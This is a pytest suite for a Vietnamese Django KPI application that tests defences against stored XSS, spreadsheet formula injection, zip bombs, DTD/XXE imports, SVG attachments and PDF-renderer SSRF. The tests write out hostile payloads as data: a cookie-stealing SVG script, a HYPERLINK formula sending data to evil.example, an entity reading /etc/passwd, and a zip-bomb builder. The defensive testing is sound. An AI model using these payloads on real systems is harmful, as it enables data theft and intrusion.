"""Content safety (issue 9, findings 3, 6, 7): what people type or upload never turns into
script in the desk, live formulas in exports, a memory blow-up or a DTD in imports, a
stored SVG page, or a request to another host from the PDF renderer."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from unittest import mock

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from tests.factories.worklogs import log, pdf_file
from tests.factories.xlsx import UNIT_HEADERS, xlsx
from thanhhoa_kpi.core import files, spreadsheet
from thanhhoa_kpi.core.errors import ValidationFailed
from thanhhoa_kpi.customfields import services as custom
from thanhhoa_kpi.customfields.models import BuiltinOverride, FieldDefinition

pytestmark = pytest.mark.django_db

XSS = "<img src=x onerror=alert(1)>"
RISKY = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1)", "\tx"]
# A carriage return reads back from XML as a line feed, so it is checked apart.
RISKY_CSV = [*RISKY, "\rx"]


def desk(user):
    client = Client()
    client.force_login(user)
    return client


# --- 1. help text and labels: plain text on save, escaped on display ----------------------
def test_help_text_with_markup_is_refused_on_save_with_a_message_naming_the_field(cast):
    with pytest.raises(ValidationFailed) as refused:
        custom.field_definition_create(
            by=cast.province_hr, doctype="official", key="ghi_chu", label="Ghi chú", field_type="text", help_text=XSS
        )
    (error,) = [e for e in refused.value.errors if e.field == "help_text"]
    assert "Hướng dẫn" in error.message and "HTML" in error.message
    assert not FieldDefinition.objects.filter(key="ghi_chu").exists()


def test_a_label_with_markup_is_refused_but_a_lone_less_than_sign_is_plain_text(cast):
    with pytest.raises(ValidationFailed) as refused:
        custom.field_definition_create(
            by=cast.province_hr, doctype="official", key="a", label="<b>Nhãn</b>", field_type="text"
        )
    assert [e.field for e in refused.value.errors] == ["label"]
    saved = custom.field_definition_create(
        by=cast.province_hr,
        doctype="official",
        key="so_nam",
        label="Số năm",
        field_type="integer",
        help_text="Nhập số < 50 > 0",
    )
    assert saved.help_text == "Nhập số < 50 > 0"


def test_builtin_override_help_text_with_markup_is_refused(cast):
    with pytest.raises(ValidationFailed) as refused:
        custom.builtin_override_set(by=cast.province_hr, doctype="official", field_name="email", help_text=XSS)
    assert refused.value.errors[0].field == "help_text"
    assert not BuiltinOverride.objects.exists()


def test_the_override_desk_form_shows_the_markup_error_on_its_field(cast):
    from thanhhoa_kpi.desk.pages.customfields import BuiltinOverrideForm

    form = BuiltinOverrideForm(data={"doctype": "official", "field_name": "email", "help_text": XSS, "label": ""})
    assert not form.is_valid()
    assert "Hướng dẫn" in form.errors["help_text"][0]


def stored_xss_field(doctype, key, field_type="text", **extra):
    """A definition saved before the check existed (straight to the table)."""
    return FieldDefinition.objects.create(
        doctype=doctype, key=key, label=extra.pop("label", f"Trường {key}"), field_type=field_type,
        help_text=XSS, **extra,
    )  # fmt: skip


def test_stored_help_text_renders_escaped_on_the_week_page(cast, work):
    stored_xss_field("worklog", "nguon")
    stored_xss_field("worklog", "muc_do", "select", options=["<script>alert(2)</script>", "Thấp"])
    html = desk(cast.official).get(reverse("admin:worklogs_my_week")).content.decode()
    assert 'name="custom__nguon"' in html  # the field is there...
    assert XSS not in html and "<script>alert(2)</script>" not in html  # ...its help and options inert
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_stored_help_text_renders_escaped_on_the_officials_form(cast):
    stored_xss_field("official", "ghi_chu", label="<b>Ghi chú</b>")
    stored_xss_field("official", "ho_so", "attachment")
    BuiltinOverride.objects.create(doctype="official", field_name="email", help_text=XSS)
    official = cast.official_of(cast.official)
    for user in (cast.province_hr, cast.sysadmin):
        page = desk(user).get(reverse("admin:organization_official_change", args=[official.pk]))
        html = page.content.decode()
        assert page.status_code == 200 and 'name="custom__ghi_chu"' in html
        assert XSS not in html and "<b>Ghi chú</b>" not in html
        assert html.count("&lt;img src=x onerror=alert(1)&gt;") >= 3  # custom text, attachment, override
    add = desk(cast.province_hr).get(reverse("admin:organization_official_add")).content.decode()
    assert XSS not in add


def test_stored_labels_and_options_render_escaped_in_list_columns_and_filters(cast):
    stored_xss_field("official", "nhom", "select", label="<b>Nhóm</b>", options=[XSS, "Văn hóa"],
                     show_in_list=True, show_in_filters=True)  # fmt: skip
    html = desk(cast.province_hr).get(reverse("admin:organization_official_changelist")).content.decode()
    assert "custom__nhom" in html or "cf_nhom" in html  # the column and the filter are there
    assert "<b>Nhóm</b>" not in html and XSS not in html


# --- 2. Content-Security-Policy on every kind of page ------------------------------------
@pytest.mark.parametrize("url", ["/admin/", "/admin/login/", "/api/v1/", "/api/v1/officials/"])
def test_desk_and_api_answers_carry_the_content_security_policy(cast, url):
    response = desk(cast.official).get(url)
    policy = response.headers.get("Content-Security-Policy", "")
    assert "default-src 'self'" in policy and "object-src 'none'" in policy and "frame-ancestors" in policy


# --- 3. exports: formulas inert, illegal characters dropped -------------------------------
def sheets_xml(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]


def assert_inert_xlsx(content: bytes, *planted: str, present: tuple[str, ...] = ()) -> list:
    """No formula anywhere; each planted text is read back unchanged, as a quoted string cell;
    each ``present`` text (a value whose control characters were dropped) is there."""
    assert all("<f>" not in xml and "<f " not in xml for xml in sheets_xml(content))
    book = load_workbook(io.BytesIO(content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    for text in planted:
        found = [c for c in cells if c.value == text]
        assert found, f"{text!r} missing from the export"
        assert all(c.data_type == "s" and c.quotePrefix for c in found), text
    values = {c.value for c in cells}
    assert all(text in values for text in present), present
    return cells


def test_the_helper_neutralises_every_risky_start_and_keeps_numbers_numeric():
    book = Workbook()
    ws = book.active
    ws.append(spreadsheet.xlsx_row(ws, [*RISKY_CSV, -5, 3.5, "bình thường", "#N/A", "a\x07b"]))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = assert_inert_xlsx(buffer.getvalue(), *RISKY, "#N/A", present=("ab",))
    by_value = {c.value: c for c in cells}
    assert by_value[-5].data_type == "n" and by_value[3.5].data_type == "n"
    assert by_value["\nx"].quotePrefix and not by_value["bình thường"].quotePrefix
    ws.append(spreadsheet.xlsx_row(ws, [["=a", "b"], {"k": 1}]))  # lists and objects become text, not a 500
    assert [c.value for c in ws[2]][:2] == ["=a, b", "{'k': 1}"] and ws["A2"].data_type == "s"
    assert [spreadsheet.csv_value(v) for v in ("=1+1", "\rx", "-", "ok", -5)] == ["'=1+1", "'\rx", "'-", "ok", -5]


def report_result():
    from thanhhoa_kpi.reports.engine import Column, ReportResult

    columns = [Column("name", "=Tên", "text"), Column("n", "Số", "number"), Column("note", "Ghi chú", "text")]
    rows = [[text, -5, f"dòng\x0b{i}"] for i, text in enumerate(RISKY_CSV)]
    return ReportResult(title="=Báo cáo\x01", columns=columns, rows=rows, warning="@cảnh báo")


def test_report_builder_and_scheduled_xlsx_exports_are_inert():
    """exports.export is the one writer of the builder, built-in reports, the API and mails."""
    from thanhhoa_kpi.reports import exports

    content, _mime, _ext = exports.export(report_result(), "xlsx")
    cells = assert_inert_xlsx(content, *RISKY, "=Tên", "=Báo cáo", "@cảnh báo", present=("dòng0",))
    assert any(c.value == -5 and c.data_type == "n" for c in cells)  # numbers stay numbers


def test_report_csv_exports_prefix_risky_text_and_keep_numbers():
    from thanhhoa_kpi.reports import exports

    content, _mime, _ext = exports.export(report_result(), "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0][0] == "'=Tên"
    assert [r[0] for r in rows[1:]] == ["'" + text for text in RISKY_CSV]
    assert all(r[1] == "-5" for r in rows[1:])


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_builtin_report_of_work_logs_exports_typed_formulas_inert(cast, work, api_for, fmt):
    log(cast.official, work.culture, description='=HYPERLINK("http://evil.example","Bấm")')
    log(cast.official, work.culture, description="chuông\x07 báo")
    response = api_for(cast.official).get(f"/api/v1/reports/builtin/nhat_ky_ca_nhan/?format={fmt}")
    assert response.status_code == 200
    if fmt == "xlsx":
        assert_inert_xlsx(response.content, '=HYPERLINK("http://evil.example","Bấm")', present=("chuông báo",))
    else:
        assert "'=HYPERLINK(" in response.content.decode("utf-8-sig")


def plant_master_data(cast):
    from thanhhoa_kpi.competencies.models import Competency, CompetencyFramework, CompetencyKind
    from thanhhoa_kpi.organization.models import JobPosition, Official, OrgUnit

    OrgUnit.objects.filter(pk=cast.team.pk).update(name="=1+1")
    Official.objects.filter(pk=cast.official_of(cast.official).pk).update(full_name="@SUM(1)", phone="+84\x08 912")
    JobPosition.objects.filter(pk=cast.position.pk).update(name="-2+3")
    framework = CompetencyFramework.objects.create(code="KNL", name='=HYPERLINK("x")', effective_from=date(2026, 1, 1))
    Competency.objects.create(framework=framework, code="K1", name="Giao tiếp", kind=CompetencyKind.values[0])
    return {"org_units": "=1+1", "officials": "@SUM(1)", "positions": "-2+3",
            "competency_frameworks": '=HYPERLINK("x")', "cbccvc": "@SUM(1)"}  # fmt: skip


def test_every_master_data_export_and_template_is_inert(cast):
    from thanhhoa_kpi.transfer import services as transfer
    from thanhhoa_kpi.transfer.specs import SPECS

    planted = plant_master_data(cast)
    custom.field_definition_create(by=cast.province_hr, doctype="official", key="ghi", label="=nhãn", field_type="text")
    assert set(SPECS) == set(planted)  # a new kind must be added here
    for kind, text in planted.items():
        assert_inert_xlsx(transfer.export_rows(kind=kind, user=cast.sysadmin), text)
    exported = transfer.export_rows(kind="officials", user=cast.sysadmin)
    assert_inert_xlsx(exported, "=nhãn", "+84 912")  # a custom column header; a phone, its control character dropped
    assert_inert_xlsx(transfer.export_template(kind="officials"), "=nhãn")


def test_a_catalogue_export_is_inert_and_reimports_unchanged(cast, work):
    from thanhhoa_kpi.catalogue.excel import read_catalogue, write_catalogue
    from thanhhoa_kpi.catalogue.models import CatalogueItem

    CatalogueItem.objects.filter(pk=work.culture.pk).update(task="=1+1", detailed_work="-\x01 chi tiết")
    content = write_catalogue(work.culture.catalogue)
    assert_inert_xlsx(content, "=1+1", "- chi tiết")  # the control character dropped
    parsed = read_catalogue(io.BytesIO(content), known_units=lambda code: True, known_positions={})
    item = next(i for i in parsed.items if i["code"] == work.culture.code)
    assert item["task"] == "=1+1"  # the value itself gained no apostrophe


# --- 4. Excel uploads: zip bombs, DTDs, sizes ---------------------------------------------
def workbook_bytes(rows=(("Mã", "Tên"), ("A", "B"))) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewritten(content: bytes, part: str, change) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            target.writestr(info.filename, change(data) if info.filename == part else data)
    return out.getvalue()


def zip_bomb(size: int) -> bytes:
    """A valid workbook plus a zero-filled part of ``size`` bytes (a few KB compressed)."""
    out = io.BytesIO(workbook_bytes())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("xl/media/padding.xml", "w") as part:
        for _ in range(size // (1024 * 1024)):
            part.write(b"\0" * (1024 * 1024))
    return out.getvalue()


def with_dtd(content: bytes) -> bytes:
    dtd = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>\n'
    return rewritten(content, "xl/worksheets/sheet1.xml", lambda data: dtd + data.split(b"?>", 1)[-1].lstrip())


def test_the_archive_check_refuses_bombs_dtds_and_other_encodings(settings):
    files.check_xlsx_archive(workbook_bytes())  # a normal workbook passes
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 3 * 1024 * 1024
    with pytest.raises(files.UnsafeFile, match="giải nén lớn hơn"):
        files.check_xlsx_archive(zip_bomb(4 * 1024 * 1024))
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 100 * 1024 * 1024
    with pytest.raises(files.UnsafeFile, match="tỷ lệ nén bất thường"):
        files.check_xlsx_archive(zip_bomb(2 * 1024 * 1024))
    with pytest.raises(files.UnsafeFile, match="DTD"):
        files.check_xlsx_archive(with_dtd(workbook_bytes()))
    utf16 = rewritten(workbook_bytes(), "xl/workbook.xml", lambda data: data.decode().encode("utf-16"))
    with pytest.raises(files.UnsafeFile, match="DTD"):
        files.check_xlsx_archive(utf16)
    hidden = io.BytesIO(workbook_bytes())
    with zipfile.ZipFile(hidden, "a") as archive:  # any part name: relationships may point anywhere
        archive.writestr("xl/worksheets/sheet9.dat", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x/>')
    with pytest.raises(files.UnsafeFile, match="sheet9.dat"):
        files.check_xlsx_archive(hidden.getvalue())


def test_a_zip_bomb_is_refused_by_the_master_data_import_before_parsing(cast, settings):
    from thanhhoa_kpi.transfer import services as transfer

    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 3 * 1024 * 1024
    with mock.patch("thanhhoa_kpi.transfer.workbook.load_workbook") as parse:
        report = transfer.import_validate(kind="org_units", content=zip_bomb(4 * 1024 * 1024), user=cast.sysadmin)
    assert not parse.called
    assert not report.ok and "giải nén lớn hơn mức cho phép" in report.errors[0].message


def test_an_excel_file_with_a_dtd_answers_a_clear_400_not_a_500(cast, api_for):
    content = with_dtd(xlsx(UNIT_HEADERS, ["T_X", "X", "", "CHINH_QUYEN", "XA", "", "", "", ""]))
    upload = SimpleUploadedFile("don-vi.xlsx", content)
    response = api_for(cast.sysadmin).post("/api/v1/imports/", {"kind": "org_units", "file": upload, "dry_run": "true"})
    assert response.status_code in (200, 400)
    assert "DTD" in str(response.json())


def test_sheets_over_the_row_or_column_limit_are_refused(cast, settings):
    from thanhhoa_kpi.transfer import services as transfer

    settings.IMPORT_MAX_COLUMNS = 5
    wide = xlsx(UNIT_HEADERS, ["T_X", "X"])  # nine header columns
    report = transfer.import_validate(kind="org_units", content=wide, user=cast.sysadmin)
    assert "9 cột, quá mức cho phép (5 cột)" in report.errors[0].message
    settings.IMPORT_MAX_COLUMNS, settings.IMPORT_MAX_ROWS = 200, 1
    tall = xlsx(UNIT_HEADERS, ["T_X", "X"], ["T_Y", "Y"])
    report = transfer.import_validate(kind="org_units", content=tall, user=cast.sysadmin)
    assert "quá nhiều dòng (tối đa 1 dòng" in report.errors[0].message


def test_the_catalogue_import_refuses_a_bomb_and_a_dtd_with_a_message(settings):
    from thanhhoa_kpi.catalogue.excel import read_catalogue

    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 3 * 1024 * 1024
    for content, expected in ((zip_bomb(4 * 1024 * 1024), "giải nén"), (with_dtd(workbook_bytes()), "DTD")):
        parsed = read_catalogue(io.BytesIO(content), known_units=lambda code: True, known_positions={})
        assert expected in parsed.errors[0].message and not parsed.items


# --- 5. attachments ------------------------------------------------------------------------
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


def test_the_attachment_check_refuses_svg_html_and_disguised_files(settings):
    for name, body in (("anh.svg", SVG), ("trang.html", b"<html><script>1</script>"), ("anh.png", SVG),
                       ("tai-lieu.pdf", SVG)):  # fmt: skip
        with pytest.raises(ValidationFailed) as refused:
            files.check_attachment(SimpleUploadedFile(name, body), field="custom.ho_so", label="Hồ sơ")
        assert refused.value.code == "FILE_TYPE_REFUSED" and "«Hồ sơ»" in refused.value.errors[0].message
    files.check_attachment(pdf_file(), field="x", label="Hồ sơ")
    settings.ATTACHMENT_MAX_BYTES = 100
    with pytest.raises(ValidationFailed) as refused:
        files.check_attachment(pdf_file(size=200), field="x", label="Hồ sơ")
    assert refused.value.code == "FILE_TOO_LARGE"


def test_a_custom_attachment_service_never_stores_an_svg(cast):
    FieldDefinition.objects.create(doctype="official", key="ho_so", label="Hồ sơ", field_type="attachment")
    with pytest.raises(ValidationFailed) as refused:
        custom.custom_attachment_store(doctype="official", key="ho_so", upload=SimpleUploadedFile("x.svg", SVG))
    assert refused.value.errors[0].field == "custom.ho_so" and "«Hồ sơ»" in refused.value.errors[0].message
    from django.core.files.storage import default_storage

    assert not default_storage.exists("custom") or not default_storage.listdir("custom")[1]


def test_the_official_form_refuses_an_svg_attachment_on_its_field(cast):
    from tests.integration.test_customfields_desk import change_url, form_data, without_account

    FieldDefinition.objects.create(doctype="official", key="ho_so", label="Hồ sơ", field_type="attachment")
    me = without_account(cast, code="T0900")
    client = desk(cast.province_hr)
    data = form_data(client.get(change_url(me)))
    data["custom__ho_so"] = SimpleUploadedFile("anh.svg", SVG, content_type="image/svg+xml")
    page = client.post(change_url(me), data)
    assert page.status_code == 200
    assert "«Hồ sơ»" in str(page.context["adminform"].form.errors["custom__ho_so"])
    me.refresh_from_db()
    assert "ho_so" not in (me.custom or {})


def test_work_log_evidence_refuses_an_svg_naming_the_field(cast, work):
    with pytest.raises(ValidationFailed) as refused:
        log(cast.official, work.culture, evidence=SimpleUploadedFile("minh-chung.svg", SVG))
    assert refused.value.errors[0].field == "evidence" and "«Tệp minh chứng»" in refused.value.errors[0].message


def test_a_disqualifier_attachment_must_be_an_allowed_file(cast):
    from tests.factories.appraisals import appraisal_of, opened, prepare_appraisals, self_assess
    from thanhhoa_kpi.appraisals import services as appraisals

    prepare_appraisals()
    work_period = opened(cast)
    appraisal = self_assess(appraisal_of(cast.official, work_period), cast.official)
    with pytest.raises(ValidationFailed) as refused:
        appraisals.appraisal_record_disqualifier(
            appraisal=appraisal, user=cast.head, code="DISCIPLINE", evidence="QĐ 12",
            attachment=SimpleUploadedFile("qd.svg", SVG), decided_on=timezone.localdate(),
        )  # fmt: skip
    assert [e.field for e in refused.value.errors] == ["attachment"]
    assert not appraisal.disqualifiers.exists()


# --- 6. WeasyPrint fetches nothing outside the project --------------------------------------
def test_the_pdf_fetcher_allows_only_static_files_and_data_urls(tmp_path):
    from thanhhoa_kpi.reports import pdf

    static = pdf.static_roots()[0] / "x.css"
    assert pdf.fetch_allowed(static.as_uri()) and pdf.fetch_allowed("data:image/png;base64,AAAA")
    for url in ("http://127.0.0.1:9/x", "https://example.org/a.png", "file:///etc/passwd", "ftp://h/x",
                (pdf.static_roots()[0] / ".." / ".." / "settings.py").as_uri(), "file://otherhost/etc/passwd",
                (tmp_path / "x.png").as_uri()):  # fmt: skip
        assert not pdf.fetch_allowed(url), url


def test_a_pdf_with_markup_pointing_outside_fetches_nothing(cast):
    from weasyprint.urls import URLFetcher

    from thanhhoa_kpi.reports import pdf

    html = (
        '<img src="http://127.0.0.1:9/x"><img src="file:///etc/passwd">'
        '<link rel="stylesheet" href="https://example.org/a.css"><p style="background:url(/etc/passwd)">x</p>'
    )
    # The real network/file fetch, patched to fail: any call to it means a request left.
    with mock.patch.object(URLFetcher, "fetch", autospec=True, side_effect=ValueError("fetched")) as fetched:
        assert pdf.html_to_pdf(html).startswith(b"%PDF")
        context = {"agency": "A", "unit": "B", "period": "Tháng 3", "rows": [{"full_name": XSS}]}
        assert pdf.unit_summary_pdf(context).startswith(b"%PDF")
    assert not fetched.called
